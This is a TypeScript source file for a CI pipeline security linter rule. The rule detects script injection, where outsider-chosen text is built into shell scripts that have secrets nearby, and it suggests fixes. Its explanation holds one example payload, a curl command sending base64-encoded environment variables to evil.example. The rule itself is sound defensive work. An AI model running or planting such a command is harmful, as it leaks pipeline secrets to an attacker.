import { SEVERITIES, type Severity } from "../../core/levels.ts";
import type { PipelineFlows, Reference } from "../../core/pipeline.ts";
import type { Place } from "../../core/span.ts";
import type { PolicyMatch } from "../../core/stages.ts";
import {
  type Injection as AzureInjection,
  injectionsIn as azureInjections,
} from "../../platforms/azure-pipelines/injections.ts";
import { injectionsIn as uploadedWith } from "../../platforms/buildkite/injections.ts";
import type { Author as Chooser } from "../../platforms/circleci/chosen-text.ts";
import { type Injection as FilledIn, injectionsIn as filledIn } from "../../platforms/circleci/injections.ts";
import { cloudBuildInjections } from "../../platforms/cloud-build/injections.ts";
import { codebuildInjections } from "../../platforms/codebuild/injections.ts";
import { injectionsIn as substitutedWith } from "../../platforms/container-steps/injections.ts";
import { DRONE } from "../../platforms/drone/dialect.ts";
import type { ChosenText } from "../../platforms/flow/chosen-text.ts";
import { type Injection, injectionsIn } from "../../platforms/github-actions/injections.ts";
import type { Author, Event, GithubActionsModel, Job, Step } from "../../platforms/github-actions/model.ts";
import { type Openness, opennessOf } from "../../platforms/github-actions/openness.ts";
import { PRIVILEGED_EVENTS } from "../../platforms/github-actions/privileged-events.ts";
import { secretsInReach } from "../../platforms/github-actions/secrets-in-reach.ts";
import { permissionsOf, tokenAccess } from "../../platforms/github-actions/token.ts";
import { injectionsIn as evaluatedIn } from "../../platforms/gitlab-ci/injections.ts";
import {
  type Injection as GroovyInjection,
  injectionsIn as groovyInjections,
} from "../../platforms/jenkins/injections.ts";
import { evaluatedTexts } from "../../platforms/script/evaluated-texts.ts";
import { type TektonInjection, tektonInjections } from "../../platforms/tekton/injections.ts";
import { WOODPECKER } from "../../platforms/woodpecker/dialect.ts";
import { definePolicy } from "../define-policy.ts";
import { onePerPlace } from "../one-per-place.ts";
import { isJobToken, namesSecret, secretName } from "../secret-like.ts";

/** A text that an outsider chooses, as part of a script that has secrets beside it. */
export const secretInInjectableStep = definePolicy({
  meta: {
    id: "untrusted/secret-in-injectable-step",
    title: "Script that takes outsiders' text for code",
    why: 'Text that becomes part of a script before the shell reads it is run as a part of that script. An issue with the title `"; curl https://evil.example/$(env | base64); "` then is a command, with each secret of the job. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither; or the text comes with an event that does not start the workflow as yet.',
    fix: 'Hand the text over in a variable and quote it in the script: `echo "$TITLE"`. Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`.',
    on: {
      "github-actions": {
        why: "`${{ … }}` becomes part of the script in this way.",
        fix: 'Write `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`.',
      },
      "azure-pipelines": {
        why: "`$(Build.SourceVersionMessage)` and `${{ parameters.name }}` become part of the script in this way.",
        fix: "Map it, `env: { MESSAGE: $(Build.SourceVersionMessage) }`, and give a parameter its `values:`.",
      },
      buildkite: {
        why: "`$BUILDKITE_MESSAGE` becomes part of the script in this way, while the pipeline is uploaded.",
        fix: "Write `$$BUILDKITE_MESSAGE`, which only the shell of the job fills in.",
      },
      circleci: {
        why: "`<< … >>` becomes part of the script in this way.",
        fix: "Use `environment:` of the `run:`; branch and tag are in `$CIRCLE_BRANCH` and `$CIRCLE_TAG` already.",
      },
      "cloud-build": {
        why: "`$BRANCH_NAME` becomes part of the script in this way.",
        fix: "Give the substitution to a variable of the step, `env: [BRANCH=$BRANCH_NAME]`, and write `$$BRANCH`.",
      },
      drone: {
        why: "`${DRONE_COMMIT_MESSAGE}` becomes part of the script in this way, before the file is read.",
        fix: "Write `$DRONE_COMMIT_MESSAGE` or `$${…}`, which only the shell fills in.",
      },
      woodpecker: {
        why: "`${CI_COMMIT_MESSAGE}` becomes part of the script in this way, before the file is read.",
        fix: "Write `$CI_COMMIT_MESSAGE` or `$${…}`, which only the shell fills in.",
      },
      jenkins: {
        why: 'Groovy fills in `sh "… ${env.CHANGE_TITLE}"`.',
        fix: "Write the script in single quotes, `sh 'echo \"$CHANGE_TITLE\"'`, and put a parameter into the environment first (`withEnv`).",
      },
      tekton: {
        why: "`$(params.title)` and `{{ source_branch }}` become part of the script in this way.",
        fix: "Give the parameter to a variable of the step: `env: [{ name: TITLE, value: $(params.title) }]`.",
      },
    },
    severity: "critical",
    confidence: "high",
    preset: "recommended",
    since: "0.1.0",
    references: [
      "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
      "https://securitylab.github.com/resources/github-actions-untrusted-input/",
      "https://docs.gitlab.com/ci/variables/#cicd-variable-security",
      "https://circleci.com/docs/guides/orchestrate/pipeline-variables/",
      "https://learn.microsoft.com/en-us/azure/devops/pipelines/security/inputs",
      "https://buildkite.com/docs/agent/v3/cli/reference/pipeline#environment-variable-substitution",
      "https://www.jenkins.io/doc/book/pipeline/jenkinsfile/#string-interpolation",
    ],
    practices: ["P5"],
    cwe: [94, 78],
  },
  platforms: [
    "appveyor",
    "azure-pipelines",
    "bitbucket-pipelines",
    "buildkite",
    "circleci",
    "cloud-build",
    "codebuild",
    "drone",
    "github-actions",
    "gitlab-ci",
    "jenkins",
    "tekton",
    "travis",
    "woodpecker",
  ],
  check({ model, flows }) {
    if (model.kind === "buildkite") return onePerPlace(uploadedWith(model, flows).map(matchOfChosen));
    if (model.kind === "drone") return onePerPlace(substitutedWith(DRONE, model, flows).map(matchOfChosen));
    if (model.kind === "woodpecker") return onePerPlace(substitutedWith(WOODPECKER, model, flows).map(matchOfChosen));
    if (model.kind === "circleci") return onePerPlace(filledIn(model, flows).map(matchOfFilledIn));
    if (model.kind === "bitbucket") return onePerPlace(chosenInProject(flows, BITBUCKET_TEXTS));
    if (model.kind === "appveyor") return onePerPlace(chosenInProject(flows, APPVEYOR_TEXTS));
    if (model.kind === "travis") return onePerPlace(chosenInProject(flows, TRAVIS_TEXTS));
    if (model.kind === "azure") return onePerPlace(azureInjections(model, flows).map((one) => azureMatch(flows, one)));
    if (model.kind === "cloud-build")
      return onePerPlace(cloudBuildInjections(model, flows).map((one) => gradedMatch(one)));
    if (model.kind === "codebuild")
      return onePerPlace(codebuildInjections(model, flows).map((one) => gradedMatch(one)));
    if (model.kind === "tekton") return onePerPlace(tektonMatches(tektonInjections(model, flows)));
    if (model.kind === "jenkins") return onePerPlace(groovyInjections(model, flows).map(groovyMatch));
    if (model.kind !== "pipeline") return onePerPlace(injectionsIn(model).flatMap((one) => matchOf(model, flows, one)));
    return onePerPlace(
      evaluatedIn(model, flows).map(({ place, name, by, script }) => {
        // Every job has its own token, and the variables of the project that the file does not name.
        const secret = script.secrets.find((one) => !isJobToken(one));
        if (by === undefined) {
          // Whoever includes the file, or starts the pipeline, may do much anyhow.
          const message = `The text of ${name} becomes part of the script, and the caller chooses it.`;
          return { place, severity: "low" as const, message, related: related(secret) };
        }
        const severity: Severity = secret === undefined ? "medium" : "high";
        const message = `The text of $${name} is run by \`${by}\`, and whoever writes the commit or merge request chooses it.`;
        return { place, severity, message, related: related(secret) };
      }),
    );
  },
});

/** Names of branches and tags: Bitbucket runs no pipeline of the repository for a fork. */
const BITBUCKET_TEXTS = /^BITBUCKET_(?:BRANCH|TAG|BOOKMARK|PR_DESTINATION_BRANCH)$/;

/** Names of branches and tags, and what a merged commit says: a fork's pull request gets no secret. */
const TRAVIS_TEXTS = /^TRAVIS_(?:BRANCH|TAG|COMMIT_MESSAGE|PULL_REQUEST_BRANCH)$/;

/** The same of AppVeyor, which keeps its encrypted variables from requests to merge. */
const APPVEYOR_TEXTS =
  /^APPVEYOR_(?:REPO_(?:BRANCH|TAG_NAME|COMMIT_MESSAGE(?:_EXTENDED)?|COMMIT_AUTHOR)|PULL_REQUEST_(?:TITLE|HEAD_REPO_BRANCH))$/;

/** Variables with texts that whoever may push chooses, where a command takes them for code. */
const chosenInProject = ({ scripts }: PipelineFlows, chosen: RegExp): PolicyMatch[] =>
  evaluatedTexts(scripts, chosen).map((one) =>
    matchOfFilledIn({ ...one, path: `$${one.name}`, author: one.name.includes("MESSAGE") ? "merged" : "project" }),
  );

/** Forks are built, or get at secrets, only if the project lets them, so that no stranger does it just like that. */
const GRADES: Readonly<Record<Chooser, readonly [beside: Severity, alone: Severity]>> = {
  outsider: ["high", "medium"],
  merged: ["high", "medium"],
  project: ["medium", "low"],
};

const matchOfFilledIn = ({ path, ...text }: FilledIn): PolicyMatch => matchOfChosen({ name: path, ...text });

function matchOfChosen({ place, name, author, by, script }: ChosenText): PolicyMatch {
  const secret = script.secrets.find((one) => !isJobToken(one));
  const [beside, alone] = GRADES[author];
  const how = by === undefined ? "becomes part of the script" : `is run by \`${by}\``;
  const message = `The text of ${name} ${how}, and ${CHOOSERS[author]} chooses it.`;
  return { place, severity: secret === undefined ? alone : beside, message, related: related(secret) };
}

/** Jenkins builds the requests of strangers only where its settings let them, and asks who may start a build. */
const GROOVY_GRADES: Readonly<Record<GroovyInjection["author"], readonly [beside: Severity, alone: Severity]>> = {
  ...GRADES,
  starter: ["medium", "low"],
};

function groovyMatch({ place, path, author, script }: GroovyInjection): PolicyMatch {
  const secret = script.secrets.find((one) => !isJobToken(one));
  const [beside, alone] = GROOVY_GRADES[author];
  const chooser = author === "starter" ? "whoever starts the build" : CHOOSERS[author];
  const message = `Groovy makes the text of ${path} part of the script, and ${chooser} chooses it.`;
  return { place, severity: secret === undefined ? alone : beside, message, related: related(secret) };
}

/** Forks get no secrets by default, so that a pull request from one does harm only where the settings allow it. */
function azureMatch(flows: PipelineFlows, { name, author, place, script }: AzureInjection): PolicyMatch {
  const { job } = script;
  const secret =
    script.secrets.find((one) => !isJobToken(one)) ??
    flows.references.find((one) => one.job !== undefined && one.job === job && !isJobToken(one));
  const full: Severity = author === "project" ? "medium" : "high";
  const message = `The text of ${name} becomes part of the script, and ${CHOOSERS[author]} chooses it.`;
  return { place, severity: secret === undefined ? "low" : full, message, related: related(secret) };
}

/** Where nothing but a caller chooses the text, it matters only beside a secret, and is told once a script. */
function tektonMatches(found: readonly TektonInjection[]): PolicyMatch[] {
  const byCaller = found.filter(
    ({ author, script }) => author === "caller" && script.secrets.some((one) => !isJobToken(one)),
  );
  return [
    ...found.filter(({ author }) => author !== "caller").map((one) => gradedMatch(one)),
    ...[...Map.groupBy(byCaller, ({ script }) => script).values()].flatMap(([first, ...others]) =>
      first === undefined ? [] : [gradedMatch(first, others.slice(0, MOST_RELATED))],
    ),
  ];
}

const MOST_RELATED = 5;

const GRADES_BY_AUTHOR: Readonly<Record<TektonInjection["author"], readonly [beside: Severity, alone: Severity]>> = {
  outsider: ["high", "medium"],
  project: ["medium", "low"],
  caller: ["low", "low"],
};

/** By who chooses the text, and whether a secret stands beside it; `others` are told with it. */
function gradedMatch(
  { name, author, by, place, script }: TektonInjection,
  others: readonly TektonInjection[] = [],
): PolicyMatch {
  const secret = script.secrets.find((one) => !isJobToken(one));
  const [beside, alone] = GRADES_BY_AUTHOR[author];
  const how = by === undefined ? "becomes part of the script" : `is run by \`${by}\``;
  const message = `The text of ${name} ${how}, and ${CHOOSERS[author]} chooses it.`;
  const also = others.map((one) => ({ place: one.place, message: `The text of ${one.name} does, too.` }));
  return { place, severity: secret === undefined ? alone : beside, message, related: [...related(secret), ...also] };
}

/** What an injected command could get hold of. */
interface Stake {
  readonly secret?: Reference;
  readonly writes: boolean;
  /** Whether the permissions of the job's token are left to settings. */
  readonly unstated: boolean;
}

function matchOf(model: GithubActionsModel, flows: PipelineFlows, injection: Injection): PolicyMatch[] {
  const stake = stakeOf(model, flows, injection);
  if (injection.idle === true) {
    const message = `The text of ${injection.path} becomes part of the script, and none of the events that start the workflow brings it today.`;
    return [{ place: injection.place, severity: "low", message, related: related(stake.secret) }];
  }
  const ranked = injection.chosen
    .flatMap((one) => {
      const severity = severityOf(model, injection, one, stake);
      return severity === undefined ? [] : [{ ...one, severity }];
    })
    .sort((a, b) => SEVERITIES.indexOf(b.severity) - SEVERITIES.indexOf(a.severity));
  const [worst] = ranked;
  if (worst === undefined) return [];
  const { path, place, by } = injection;
  const how = by === undefined ? "becomes part of the script" : `is run by \`${by}\``;
  const through = worst.event === undefined ? "" : ` on ${worst.event.name.value}`;
  const who =
    worst.isSettled === true ? "those who call it from elsewhere choose" : `${CHOOSERS[worst.author]} chooses`;
  const message = `The text of ${path} ${how}, and ${who} it${through}.`;
  return [{ place, severity: worst.severity, message, related: related(stake.secret) }];
}

const CHOOSERS: Readonly<Record<Author, string>> = {
  outsider: "anybody",
  merged: "the author of a merged commit",
  project: "whoever may write to the repository",
  caller: "the caller",
};

const related = (secret: Reference | undefined): NonNullable<PolicyMatch["related"]> =>
  secret === undefined ? [] : [{ place: secret.place, message: `Here ${secretName(secret)} is given.` }];

function stakeOf(model: GithubActionsModel, flows: PipelineFlows, { job, step }: Injection): Stake {
  if (model.kind === "action" || job === undefined) {
    const secret = flows.references.find(({ place }) => isWithin(place, step.place));
    return { ...(secret && { secret }), writes: isGivenSecret(step), unstated: true };
  }
  const [secret] = secretsInReach(flows, job);
  const token = tokenAccess(permissionsOf(model, job));
  return { ...(secret && { secret }), writes: token === "writes", unstated: token === "unstated" };
}

const isWithin = ({ span }: Place, outer: Place): boolean =>
  outer.span.start <= span.start && span.end <= outer.span.end;

/** Secrets come into an action through its inputs, known by their names. */
function isGivenSecret({ env, with: inputs }: Step): boolean {
  return [...env.entries, ...inputs.entries].some(
    ({ name, value }) => namesSecret(name.value) && /\$\{\{\s*inputs\./.test(value.value),
  );
}

/** How open a step is; an action is as open as those that use it. */
function opennessIn(model: GithubActionsModel, event: Event, job: Job | undefined, step: Step): Openness {
  if (model.kind === "workflow" && job !== undefined) return opennessOf(model, event, job, step);
  return event.approvedFirst === true ? "approved" : "open";
}

/** Events beside `PRIVILEGED_EVENTS` that any reader of a public repository can cause. */
const ALSO_PRIVILEGED = new Set(["gollum", "commit_comment", "workflow_call"]);

const isPrivileged = (event: string): boolean => PRIVILEGED_EVENTS.has(event) || ALSO_PRIVILEGED.has(event);

/** How bad it is if this author chooses the text; undefined where the job does not run then. */
function severityOf(
  model: GithubActionsModel,
  { job, step }: Injection,
  { author, event, isSettled }: Injection["chosen"][number],
  { secret, writes, unstated }: Stake,
): Severity | undefined {
  const hasStake = secret !== undefined || writes;
  const grade = (full: Severity, partly: Severity): Severity => (hasStake ? full : unstated ? partly : "low");
  if (isSettled === true) return "low";
  if (author === "project" || author === "caller") return grade("medium", "low");
  if (author === "merged") return grade("high", "medium");
  if (event === undefined) return grade("high", "medium");
  const openness = opennessIn(model, event, job, step);
  if (openness === "closed") return undefined;
  if (!isPrivileged(event.name.value)) return "low";
  return openness === "open" && event.name.value !== "workflow_call"
    ? grade("critical", "high")
    : grade("high", "medium");
}
